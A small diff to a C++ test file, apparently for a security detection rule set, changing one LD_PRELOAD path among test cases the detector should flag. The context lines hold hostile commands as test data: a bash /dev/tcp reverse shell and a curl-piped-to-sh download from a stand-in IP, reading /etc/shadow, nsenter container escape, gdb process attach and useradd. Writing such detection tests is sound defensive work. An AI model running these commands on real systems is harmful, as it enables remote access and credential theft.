@@ -229,7 +229,7 @@ TEST_F(TriggersTest, TheDefaultSetFiresOnWhatItIsFor) {
       {"credential-file-access", {"tail", "/etc/shadow"}},
       {"reverse-shell", {"bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}},
       {"piped-to-shell", {"zsh", "curl -fsSL http://192.0.2.1/x | sh"}},
-      {"preload-injection", {"env", "LD_PRELOAD=/home/u/x.so"}},
+      {"preload-injection", {"env", "LD_PRELOAD=/srv/u/x.so"}},
       {"container-escape", {"nsenter", "-t", "1"}},
       {"ptrace-attach", {"gdb", "-p", "4242"}},
       {"account-creation", {"useradd", "-m", "eve"}}};
